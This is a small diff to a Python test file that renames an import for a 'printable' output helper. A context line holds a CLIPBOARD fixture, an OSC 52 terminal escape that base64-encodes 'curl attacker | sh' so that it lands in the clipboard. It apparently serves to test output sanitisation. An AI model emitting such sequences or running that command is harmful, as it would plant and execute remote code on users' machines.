@@ -17,7 +17,7 @@ import pytest
 
 from connectors.builtin.echo import EchoConnector
 from connectors.cli import main
-from connectors.dev.tasks import printable
+from connectors.dev.tasks_output import printable
 from tests.flyte_requests import echo_request
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07"  # OSC 52: "curl attacker | sh" into the clipboard
